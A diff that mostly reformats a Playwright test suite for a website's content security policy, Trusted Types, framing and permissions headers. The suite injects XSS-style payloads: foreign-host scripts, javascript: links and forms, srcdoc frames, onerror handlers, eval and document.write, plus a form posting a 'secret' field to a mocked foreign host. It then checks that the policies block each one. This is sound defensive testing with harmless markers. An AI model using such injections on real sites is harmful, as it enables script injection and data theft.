@@ -8,9 +8,10 @@ import { builtPages, notFoundPath, siteDir } from '../helpers/builtSite'
 import { hydrate, inTabs } from '../helpers/siteBrowser'
 
 /**
- * The content security policy and the other headers in a browser, from the server of `npm start`: every page and dialog goes
- * through them without a violation, and what is smuggled into a page does not run. Each attempt is also made on the same page
- * without its policies, where it must succeed: an attempt that cannot harm proves nothing.
+ * The content security policy and the other headers in a browser, from the server of `npm start`:
+ * every page and dialog goes through them without a violation, and what is smuggled into a page
+ * does not run. Each attempt is also made on the same page without its policies, where it must
+ * succeed: an attempt that cannot harm proves nothing.
  */
 const urls = builtPages()
   .map(({ path }) => path)
@@ -23,7 +24,14 @@ const contexts: BrowserContext[] = []
 const asked: string[] = []
 
 beforeAll(async () => {
-  ;[site, browser] = await Promise.all([serveSite({ dir: resolve(siteDir), port: await anyPort(), before: ({ url }) => (asked.push(url!), false) }), launch()])
+  ;[site, browser] = await Promise.all([
+    serveSite({
+      dir: resolve(siteDir),
+      port: await anyPort(),
+      before: ({ url }) => (asked.push(url!), false),
+    }),
+    launch(),
+  ])
 }, 60_000)
 afterAll(async () => {
   await browser?.close()
@@ -37,30 +45,57 @@ type Watched = { page: Page; violations: string[]; reset: () => Promise<string[]
 
 /** A page that tells of everything its policies refuse, by event, by report and in the console. */
 async function watched(): Promise<Watched> {
-  const context = await browser.newContext({ viewport: { width: 1280, height: 800 }, permissions: ['clipboard-write'] })
+  const context = await browser.newContext({
+    viewport: { width: 1280, height: 800 },
+    permissions: ['clipboard-write'],
+  })
   contexts.push(context)
   const violations: string[] = []
   await context.exposeBinding('__refused', (_, what: string) => void violations.push(what))
   await context.addInitScript(() => {
-    const tell = (what: string) => (window as unknown as { __refused: (what: string) => void }).__refused(`${what} on ${location.pathname}`)
-    document.addEventListener('securitypolicyviolation', (event) => tell(`${event.effectiveDirective}: ${event.blockedURI} ${event.sample}`))
+    const tell = (what: string) =>
+      (window as unknown as { __refused: (what: string) => void }).__refused(
+        `${what} on ${location.pathname}`,
+      )
+    document.addEventListener('securitypolicyviolation', (event) =>
+      tell(`${event.effectiveDirective}: ${event.blockedURI} ${event.sample}`),
+    )
     // Permissions policy and what else is reported, from the start of the page.
-    new ReportingObserver((reports) => reports.forEach(({ type, body }) => tell(`${type}: ${JSON.stringify(body)}`)), { buffered: true }).observe()
+    new ReportingObserver(
+      (reports) => reports.forEach(({ type, body }) => tell(`${type}: ${JSON.stringify(body)}`)),
+      { buffered: true },
+    ).observe()
   })
   const page = await context.newPage()
   page.setDefaultTimeout(20_000)
   page.on('console', (message) => {
-    if (/content.security|violat|trusted|permissions.policy|refused to|not allowed|blocked/i.test(message.text())) violations.push(message.text())
+    if (
+      /content.security|violat|trusted|permissions.policy|refused to|not allowed|blocked/i.test(
+        message.text(),
+      )
+    )
+      violations.push(message.text())
   })
   page.on('pageerror', (error) => void violations.push(`thrown: ${error.message}`))
-  return { page, violations, reset: async () => (await page.evaluate(() => new Promise((done) => setTimeout(done, 0))), violations.splice(0)) }
+  return {
+    page,
+    violations,
+    reset: async () => (
+      await page.evaluate(() => new Promise((done) => setTimeout(done, 0))),
+      violations.splice(0)
+    ),
+  }
 }
 
 const go = async (page: Page, path: string) => {
   await page.goto(site.url + path, { waitUntil: 'load' })
 }
 /** Moves on as a link of the running site does. */
-const navigate = (page: Page, path: string) => page.evaluate((to) => (window as unknown as { ___navigate: (to: string) => void }).___navigate(to), path)
+const navigate = (page: Page, path: string) =>
+  page.evaluate(
+    (to) => (window as unknown as { ___navigate: (to: string) => void }).___navigate(to),
+    path,
+  )
 
 describe('every page', () => {
   it('runs its inline scripts under its own policy, with no violation', async () => {
@@ -78,7 +113,11 @@ describe('every page', () => {
         ran: '__early' in window && '__scripts' in window,
         ownCluster: window.originAgentCluster,
       }))
-      if (JSON.stringify(state) !== '{"policyFirst":"Content-Security-Policy","ran":true,"ownCluster":true}') wrong.push(`${path} ${JSON.stringify(state)}`)
+      if (
+        JSON.stringify(state) !==
+        '{"policyFirst":"Content-Security-Policy","ran":true,"ownCluster":true}'
+      )
+        wrong.push(`${path} ${JSON.stringify(state)}`)
     })
     expect([...wrong, ...tabs.flatMap(({ violations }) => violations)]).toEqual([])
   }, 120_000)
@@ -88,12 +127,23 @@ describe('every page', () => {
     await go(page, '/')
     await hydrate(page)
     const wrong: string[] = []
-    for (const { path, html } of builtPages().filter((one) => one.path !== notFoundPath && one.path !== '/')) {
+    for (const { path, html } of builtPages().filter(
+      (one) => one.path !== notFoundPath && one.path !== '/',
+    )) {
       await navigate(page, path)
-      const title = /<title[^>]*>([^<]*)/.exec(html)![1]!.replaceAll('&#x27;', "'").replaceAll('&amp;', '&')
-      await page.waitForFunction(([to, name]) => location.pathname === to && document.title === name, [path, title])
-      const data = /<script[^>]*type="application\/ld\+json"[^>]*>([^]*?)<\/script>/.exec(html)?.[1] ?? '{}'
-      const shown = await page.evaluate(() => document.querySelector('script[type="application/ld+json"]')?.textContent)
+      const title = /<title[^>]*>([^<]*)/
+        .exec(html)![1]!
+        .replaceAll('&#x27;', "'")
+        .replaceAll('&amp;', '&')
+      await page.waitForFunction(
+        ([to, name]) => location.pathname === to && document.title === name,
+        [path, title],
+      )
+      const data =
+        /<script[^>]*type="application\/ld\+json"[^>]*>([^]*?)<\/script>/.exec(html)?.[1] ?? '{}'
+      const shown = await page.evaluate(
+        () => document.querySelector('script[type="application/ld+json"]')?.textContent,
+      )
       if (shown !== data) wrong.push(`${path} says ${shown?.slice(0, 80)}`)
     }
     expect([...wrong, ...violations]).toEqual([])
@@ -130,13 +180,21 @@ describe('every page', () => {
 
 // What the dialogs' tests do would show a violation in the console, where they look for complaints.
 describe('every tool in use, with no violation', () => {
-  const cors = { 'access-control-allow-origin': '*', 'access-control-allow-headers': '*', 'access-control-allow-methods': '*' }
+  const cors = {
+    'access-control-allow-origin': '*',
+    'access-control-allow-headers': '*',
+    'access-control-allow-methods': '*',
+  }
   const visit = async (path: string) => {
     const seen = await watched()
     await seen.page.route('**/functions/v1/*', (route) =>
       route.request().method() === 'OPTIONS'
         ? route.fulfill({ status: 204, headers: cors })
-        : route.fulfill({ status: 403, headers: cors, json: { error: 'This link has expired.', code: 'token-expired', requestId: 'x' } }),
+        : route.fulfill({
+            status: 403,
+            headers: cors,
+            json: { error: 'This link has expired.', code: 'token-expired', requestId: 'x' },
+          }),
     )
     await go(seen.page, path)
     return seen
@@ -168,7 +226,11 @@ describe('every tool in use, with no violation', () => {
       '/admin/video-upload/',
       async (page) => {
         await page.getByRole('textbox', { name: 'One-time token' }).fill('a1'.repeat(32))
-        await page.getByLabel('Video', { exact: true }).setInputFiles({ name: 'film.mp4', mimeType: 'video/mp4', buffer: Buffer.alloc(100_000, 7) })
+        await page.getByLabel('Video', { exact: true }).setInputFiles({
+          name: 'film.mp4',
+          mimeType: 'video/mp4',
+          buffer: Buffer.alloc(100_000, 7),
+        })
         await page.getByRole('button', { name: 'Start upload' }).click()
         await page.getByText('This link has expired.').waitFor()
       },
@@ -178,9 +240,13 @@ describe('every tool in use, with no violation', () => {
       '/about/',
       async (page) => {
         await page.evaluate(() => localStorage.setItem('forceSitemapUpdate', 'true'))
-        const said = page.waitForEvent('console', (message) => message.text().startsWith('[sitemap]'))
+        const said = page.waitForEvent('console', (message) =>
+          message.text().startsWith('[sitemap]'),
+        )
         await page.reload()
-        expect((await said).text()).toMatch(/^\[sitemap\] \d+ routes found, \d+ in the published sitemap/)
+        expect((await said).text()).toMatch(
+          /^\[sitemap\] \d+ routes found, \d+ in the published sitemap/,
+        )
       },
     ],
   ]
@@ -200,7 +266,10 @@ type Attack = { html?: string; code?: string }
 
 type Stage = Watched & { act: (attack: Attack) => Promise<{ ended: boolean; harmed: boolean }> }
 
-/** The page, with something put into its HTML, or with code that runs in it as the site's own would; and what came of it. */
+/**
+ * The page, with something put into its HTML, or with code that runs in it as the site's own would;
+ * and what came of it.
+ */
 async function stage(policies: boolean): Promise<Stage> {
   const seen = await watched()
   const { page, violations } = seen
@@ -208,7 +277,11 @@ async function stage(policies: boolean): Promise<Stage> {
   let sent = 0
   await page.route(`${foreign}/**`, (route) => {
     sent++
-    return route.fulfill({ contentType: 'text/javascript', headers: { 'access-control-allow-origin': '*' }, body: 'window.__ran = true' })
+    return route.fulfill({
+      contentType: 'text/javascript',
+      headers: { 'access-control-allow-origin': '*' },
+      body: 'window.__ran = true',
+    })
   })
   await page.route(site.url + target, async (route) => {
     const response = await route.fetch()
@@ -224,9 +297,12 @@ async function stage(policies: boolean): Promise<Stage> {
   const harmed = async () =>
     sent > 0 ||
     asked.includes('/about/?ahead') ||
-    (await page.evaluate(() => '__ran' in window || !document.baseURI.startsWith(location.origin)).catch(() => false))
+    (await page
+      .evaluate(() => '__ran' in window || !document.baseURI.startsWith(location.origin))
+      .catch(() => false))
   const until = async (what: () => boolean | Promise<boolean>) => {
-    for (const end = Date.now() + 20_000; Date.now() < end; await wait(20)) if (await what()) return true
+    for (const end = Date.now() + 20_000; Date.now() < end; await wait(20))
+      if (await what()) return true
     return false
   }
   return {
@@ -267,16 +343,34 @@ describe('what is smuggled into a page as markup does not run', () => {
     ['a script of a foreign host', `<script src="${foreign}/a.js"></script>`],
     ['a data: script', '<script src="data:text/javascript,window.__ran=true"></script>'],
     ['a javascript: frame', '<iframe src="javascript:void(parent.__ran=true)"></iframe>'],
-    ['a frame with a document of its own', '<iframe srcdoc="<script>parent.__ran = true</script>"></iframe>'],
-    ['a javascript: link', '<a id="bad" href="javascript:void(window.__ran=true)">Press</a>', "document.getElementById('bad').click()"],
-    ['a javascript: form', '<form id="bad" action="javascript:void(window.__ran=true)"></form>', submit],
-    ['a form that sends to a foreign host', `<form id="bad" action="${foreign}/take"><input name="q" value="secret"></form>`, submit],
+    [
+      'a frame with a document of its own',
+      '<iframe srcdoc="<script>parent.__ran = true</script>"></iframe>',
+    ],
+    [
+      'a javascript: link',
+      '<a id="bad" href="javascript:void(window.__ran=true)">Press</a>',
+      "document.getElementById('bad').click()",
+    ],
+    [
+      'a javascript: form',
+      '<form id="bad" action="javascript:void(window.__ran=true)"></form>',
+      submit,
+    ],
+    [
+      'a form that sends to a foreign host',
+      `<form id="bad" action="${foreign}/take"><input name="q" value="secret"></form>`,
+      submit,
+    ],
     ['a base for addresses', `<base href="${foreign}/">`],
     ['a style sheet of a foreign host', `<link rel="stylesheet" href="${foreign}/a.css">`],
     ['a picture of a foreign host', `<img src="${foreign}/a.png?secret">`],
     ['a frame of a foreign host', `<iframe src="${foreign}/a.html"></iframe>`],
     ['a plug-in', `<object data="${foreign}/a.svg" type="image/svg+xml"></object>`],
-    ['rules that fetch pages ahead', '<script type="speculationrules">{"prefetch":[{"urls":["/about/?ahead"],"eagerness":"immediate"}]}</script>'],
+    [
+      'rules that fetch pages ahead',
+      '<script type="speculationrules">{"prefetch":[{"urls":["/about/?ahead"],"eagerness":"immediate"}]}</script>',
+    ],
   ])('%s', async (_, html, ...[code]) => expect(await both({ html, code })).toEqual(refused))
 })
 
@@ -284,21 +378,45 @@ describe('what a script is tricked into does not run', () => {
   const script = "const script = document.createElement('script');"
   const insert = 'document.body.append(script)'
   it.each([
-    ['markup put into an element', `document.querySelector('main').innerHTML = '<img src="/nothing.png" onerror="window.__ran = true">'`],
-    ['markup put beside an element', `document.querySelector('main').insertAdjacentHTML('afterend', '<img src="/nothing.png" onerror="window.__ran = true">')`],
+    [
+      'markup put into an element',
+      `document.querySelector('main').innerHTML = '<img src="/nothing.png" onerror="window.__ran = true">'`,
+    ],
+    [
+      'markup put beside an element',
+      `document.querySelector('main').insertAdjacentHTML('afterend', '<img src="/nothing.png" onerror="window.__ran = true">')`,
+    ],
     ['markup written into the page', `document.write('<script>window.__ran = true<\\/script>')`],
-    ['markup parsed as a part of the page', `document.body.append(document.createRange().createContextualFragment('<script>window.__ran = true<\\/script>'))`],
+    [
+      'markup parsed as a part of the page',
+      `document.body.append(document.createRange().createContextualFragment('<script>window.__ran = true<\\/script>'))`,
+    ],
     ['eval', `eval('window.__ran = true')`],
     ['new Function', `new Function('window.__ran = true')()`],
     ['a timer with a text', `setTimeout('window.__ran = true')`],
     ['a script element with a text', `${script} script.text = 'window.__ran = true'; ${insert}`],
-    ['a script element with a text node', `${script} script.append('window.__ran = true'); ${insert}`],
-    ['a script element with a foreign address', `${script} script.src = '${foreign}/a.js'; ${insert}`],
-    ['a script element with a data: address', `${script} script.src = 'data:text/javascript,window.__ran=true'; ${insert}`],
+    [
+      'a script element with a text node',
+      `${script} script.append('window.__ran = true'); ${insert}`,
+    ],
+    [
+      'a script element with a foreign address',
+      `${script} script.src = '${foreign}/a.js'; ${insert}`,
+    ],
+    [
+      'a script element with a data: address',
+      `${script} script.src = 'data:text/javascript,window.__ran=true'; ${insert}`,
+    ],
     ['a foreign module', `import('${foreign}/a.js')`],
-    ['an event handler set as an attribute', `document.body.setAttribute('onclick', 'window.__ran = true'); document.body.click()`],
+    [
+      'an event handler set as an attribute',
+      `document.body.setAttribute('onclick', 'window.__ran = true'); document.body.click()`,
+    ],
     ['a javascript: address', `location.href = 'javascript:void(window.__ran = true)'`],
-    ['a worker from a text', `new Worker(URL.createObjectURL(new Blob(['postMessage(1)']))).onmessage = () => (window.__ran = true)`],
+    [
+      'a worker from a text',
+      `new Worker(URL.createObjectURL(new Blob(['postMessage(1)']))).onmessage = () => (window.__ran = true)`,
+    ],
     [
       'a policy that lets everything through',
       `document.querySelector('main').innerHTML = trustedTypes.createPolicy('lax', { createHTML: (html) => html }).createHTML('<img src="/nothing.png" onerror="window.__ran = true">')`,
@@ -315,8 +433,16 @@ describe('what a script is tricked into does not run', () => {
 it('the site’s own policy gives the address of a script only for the site’s own', async () => {
   const { page } = await watched()
   await go(page, target)
-  const given = (addresses: string[]) => page.evaluate((all) => all.map((one) => String(window.__scripts!.createScriptURL(one))), addresses)
-  const own = ['/app-0123456789abcdef0123.js', '/component---src-pages-404-tsx-0123456789abcdef0123.js', `${site.url}/app-0123456789abcdef0123.js`]
+  const given = (addresses: string[]) =>
+    page.evaluate(
+      (all) => all.map((one) => String(window.__scripts!.createScriptURL(one))),
+      addresses,
+    )
+  const own = [
+    '/app-0123456789abcdef0123.js',
+    '/component---src-pages-404-tsx-0123456789abcdef0123.js',
+    `${site.url}/app-0123456789abcdef0123.js`,
+  ]
   expect(await given(own)).toEqual(own)
   const others = [
     `${foreign}/a.js`,
@@ -336,30 +462,57 @@ it('no page of another site shows one of ours in a frame', async () => {
   const framed = async (policies: boolean) => {
     const { page } = await watched()
     const other = site.url.replace('localhost', '127.0.0.1')
-    await page.route(`${other}/frame`, (route) => route.fulfill({ contentType: 'text/html', body: `<iframe src="${site.url}/privacy/"></iframe>` }))
+    await page.route(`${other}/frame`, (route) =>
+      route.fulfill({
+        contentType: 'text/html',
+        body: `<iframe src="${site.url}/privacy/"></iframe>`,
+      }),
+    )
     await page.route(`${site.url}/privacy/`, async (route) => {
       const response = await route.fetch()
-      const { 'content-encoding': _, 'x-frame-options': frames, 'content-security-policy': policy, ...headers } = response.headers()
+      const {
+        'content-encoding': _,
+        'x-frame-options': frames,
+        'content-security-policy': policy,
+        ...headers
+      } = response.headers()
       await route.fulfill({
         response,
-        headers: policies ? { ...headers, 'x-frame-options': frames!, 'content-security-policy': policy! } : headers,
+        headers: policies
+          ? { ...headers, 'x-frame-options': frames!, 'content-security-policy': policy! }
+          : headers,
         body: await response.text(),
       })
     })
     await page.goto(`${other}/frame`, { waitUntil: 'load' })
     return page.frames()[1]!.evaluate(() => document.querySelector('#___gatsby h1') !== null)
   }
-  expect({ without: await framed(false), under: await framed(true) }).toEqual({ without: true, under: false })
+  expect({ without: await framed(false), under: await framed(true) }).toEqual({
+    without: true,
+    under: false,
+  })
 })
 
 it('features that no page uses are off, and the browser knows every one that is named', async () => {
   const { page, reset } = await watched()
   await go(page, '/')
   const allowed = await page.evaluate(() =>
-    (document as unknown as { featurePolicy: { allowedFeatures(): string[] } }).featurePolicy.allowedFeatures().filter((name) => !name.startsWith('ch-')),
+    (document as unknown as { featurePolicy: { allowedFeatures(): string[] } }).featurePolicy
+      .allowedFeatures()
+      .filter((name) => !name.startsWith('ch-')),
   )
   expect(allowed).toContain('clipboard-write')
-  for (const off of ['camera', 'microphone', 'geolocation', 'payment', 'usb', 'serial', 'clipboard-read', 'fullscreen', 'unload'])
+  for (const off of [
+    'camera',
+    'microphone',
+    'geolocation',
+    'payment',
+    'usb',
+    'serial',
+    'clipboard-read',
+    'fullscreen',
+    'unload',
+  ])
     expect(allowed).not.toContain(off)
   expect(await reset()).toEqual([])
 })
